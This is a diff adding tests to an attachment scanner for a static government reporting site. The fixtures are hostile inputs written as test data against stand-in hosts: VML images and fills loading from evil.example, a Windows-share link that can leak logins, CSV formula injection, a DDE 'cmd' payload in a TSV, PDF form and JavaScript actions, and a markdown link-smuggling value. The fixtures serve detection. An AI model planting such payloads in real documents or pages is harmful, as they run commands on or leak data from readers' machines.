@@ -487,6 +487,29 @@ REACHING_OUT = {
         b"<</S/Subm#69tForm/F(http://evil.example/s)>>")), "SubmitForm"),
     "JavaScript written #xx-escaped": ("表.pdf", lambda: _raw_pdf(b"", _link(
         b"<</S/J#61vaScript/J#53(app.alert(1))>>")), "JavaScript"),
+    # VML (a Word picture, an Excel comment's shape): addresses in attributes, no relationship
+    "VML picture from an address": ("说明.docx", lambda: _docx(body=(
+        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1">'
+        '<v:imagedata src="http://evil.example/p.png"/></v:shape></w:pict></w:r></w:p>')),
+        "imagedata src.*http://evil.example/p.png"),
+    "VML picture's o:href on a Windows share": ("说明.docx", lambda: _docx(body=(
+        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:'
+        'schemas-microsoft-com:office:office" id="s1"><v:imagedata o:href="\\\\evil.example'
+        '\\s\\p.png"/></v:shape></w:pict></w:r></w:p>')), "imagedata href"),
+    "VML fill in an Excel comment's drawing": ("表.xlsx", lambda: _xlsx(("A1", "x"), added={
+        "xl/drawings/vmlDrawing9.vml": '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape'
+        ' id="c1"><v:fill src="http://evil.example/f.png"/></v:shape></xml>'}), "fill src"),
+    "VML that is not well-formed XML": ("表.xlsx", lambda: _xlsx(("A1", "x"), added={
+        "xl/drawings/vmlDrawing9.vml": "<xml><v:shape id='c1'><br><v:imagedata o:href="
+        "'file:///C:/x.png'/></v:shape></xml>"}), "file:///C:/x.png"),
+    # CSV/TSV attachments are published as they are: a reader's Excel runs a formula cell
+    "CSV cell written as a formula": ("名单.csv", lambda: (
+        '单位,详情\n甲,"多行\n说明"\n乙,"=HYPERLINK(""https://evil.example/"",""点"")"\n'
+    ).encode(), "第 4 行.*HYPERLINK"),
+    "TSV cell that calls a program by DDE": ("名单.tsv", lambda: (
+        "单位\t详情\n甲\t+cmd|' /C calc'!A0\n").encode("gb18030"), "第 2 行.*cmd"),
+    "HYPERLINK to an address made by a formula": ("表.xlsx", lambda: _xlsx(
+        ("A1", '=HYPERLINK("http://evil."&"example/","点")')), "HYPERLINK"),
     "page /AA written #xx-escaped": ("表.pdf", lambda: _raw_pdf(b"", (
         b"/#41A<</O<</S/URI/URI(http://evil.example/o)>>>>")), "/AA.*http://evil.example/o"),
 }
@@ -517,6 +540,54 @@ def test_a_hyperlink_the_reader_clicks_is_kept_and_its_address_scanned():
     assert _kinds("c.xlsx", sheet) == ["email"]
     pdf = _raw_pdf(b"/OpenAction[3 0 R/Fit]", _link(b"<</S/URI/URI(mailto:zhangsan@qq.com)>>"))
     assert _kinds("d.pdf", pdf) == ["email"]
+
+
+def test_every_hyperlink_of_an_attachment_is_handed_over_for_the_host_check(tmp_path):
+    """Hyperlinks in attachments were kept whatever their host or scheme: a tracking
+    address, or a file:// or \\\\server link that hands the reader's Windows login over."""
+    from generator import attachments, privacy, sanitize
+    from generator.audit import Policy, audit
+
+    word = _docx(body=(
+        '<w:p><w:hyperlink r:id="rIdH"><w:r><w:t>详见</w:t></w:r></w:hyperlink></w:p>'
+        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1" '
+        'href="https://tracker.example.net/v"/></w:pict></w:r></w:p>'
+        + _field(' HYPERLINK "file://///share.example.net/s/x.docx" \\o "提示" ')
+        + _field(' HYPERLINK \\l "书签" ')), added={"word/_rels/document.xml.rels": _rel(
+            "rIdH", "hyperlink", "https://tracker.example.net/r")})
+    book = _xlsx(("A1", "x"), ("A2", "详见"), ("A4", '=IF(1,HYPERLINK("https://a.example.net/",'
+                                                   '"a"),HYPERLINK("https://www.example.gov.cn/","b"))'),
+                 setup=lambda b: setattr(b.active["A2"], "hyperlink", "https://c.example.net/"))
+    pdf = _raw_pdf(b"/Outlines 4 0 R", _link(b"<</S/URI/URI(https://p.example.net/)>>"),
+                   b"<</First 5 0 R/Last 5 0 R/Count 1>>",
+                   b"<</Title(x)/Parent 4 0 R/A<</S/URI/URI(https://o.example.net/)>>>>")
+    found = {}
+    for name, data in (("a.docx", word), ("b.xlsx", book), ("c.pdf", pdf)):
+        links = []
+        extract_text(name, data, links)
+        found[name] = sorted((link.line, link.url) for link in links)
+    assert found == {
+        "a.docx": [(2, "https://tracker.example.net/r"), (3, "https://tracker.example.net/v"),
+                   (4, "file://///share.example.net/s/x.docx")],
+        "b.xlsx": [(2, "https://c.example.net/"), (4, "https://a.example.net/"),
+                   (4, "https://www.example.gov.cn/")],
+        "c.pdf": [(1, "https://o.example.net/"), (1, "https://p.example.net/")]}
+    (tmp_path / "files").mkdir()
+    (tmp_path / "files/a.docx").write_bytes(word)
+    links = sanitize.Links("https://zhuanxiang.example.gov.cn/", {"example.gov.cn"})
+    assert sorted((p.line, p.code) for p in attachments.check_file(
+        tmp_path, "files/a.docx", privacy.Scanner(), None, links)) == [
+        (2, "unlisted-host"), (3, "unlisted-host"), (4, "attachment-link-scheme")]
+    site = tmp_path / "site"
+    site.mkdir()
+    (site / "b.xlsx").write_bytes(book)
+    assert [(p.path, p.line, p.code) for p in audit(site, Policy(privacy.Scanner(), links))] == [
+        ("site/b.xlsx!名单", 2, "audit-third-party"), ("site/b.xlsx!名单", 4, "audit-third-party")]
+
+
+def test_a_table_attachment_with_dashes_and_phone_prefixes_is_not_taken_for_formulas():
+    table = "单位,说明,变化\n甲,-,-5%\n乙,+86 010 1234 5678,-2\n".encode()
+    assert [p.line for p in extract_text("名单.csv", table)] == [1, 2, 3]
 
 
 def test_a_workbook_embedded_in_a_document_is_read_as_an_attachment():
@@ -680,3 +751,41 @@ def test_what_a_document_hides_from_the_page_is_read_too():
     buffer = io.BytesIO()
     photo.save(buffer, "PNG")
     assert extract_text("i.png", buffer.getvalue()) == []
+
+
+def test_the_own_assets_manifest_lists_the_repository_scripts_and_stylesheets():
+    """Staff commit under content/; a script or stylesheet there was published without a
+    look (a clerk's account could add a line to tables.js). Each is now held to its
+    digest in generator/own_assets.sha256; after a reviewed change, update it with
+    `sha256sum` as this test prints it."""
+    import hashlib
+
+    from generator.attachments import own_assets
+
+    kinds = (".js", ".css")
+    notices = {"LICENCE", "LICENSE", "README", "COPYING", "NOTICE"}
+    found = {p.relative_to(ROOT).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
+             for p in sorted((ROOT / "content/assets").rglob("*"))
+             if p.is_file() and (p.suffix in kinds or p.name in notices)}
+    assert own_assets() == found, "\n".join(f"{d}  {p}" for p, d in sorted(found.items()))
+
+
+def test_a_channel_address_cannot_open_a_second_link(tmp_path):
+    """A 网上平台 value "https://host/a)[点此举报](https://other/…" ended the link at its ")"
+    and made a second one, to another host, worded as the reporting link."""
+    from generator import sanitize
+
+    project = make_project(tmp_path / "c")
+    channels = project / "site_config/channels.yml"
+    channels.write_text(channels.read_text("utf-8").replace(
+        "value: https://jubao.yanshi-demo.example.gov.cn/",
+        'value: "https://jubao.yanshi-demo.example.gov.cn/a)[点此举报](https://evil.example/x"'),
+        "utf-8")
+    site = build(project, NOW)
+    hosts = set()
+    for text in site.pages.values():
+        if "jubao" in text:
+            for _tag, attrs in sanitize.elements(sanitize.markdown_html(text)):
+                hosts |= {sanitize.Links().resolve(v).hostname for k, v in attrs
+                          if k == "href" and v.startswith("http")}
+    assert hosts == {"jubao.yanshi-demo.example.gov.cn"}
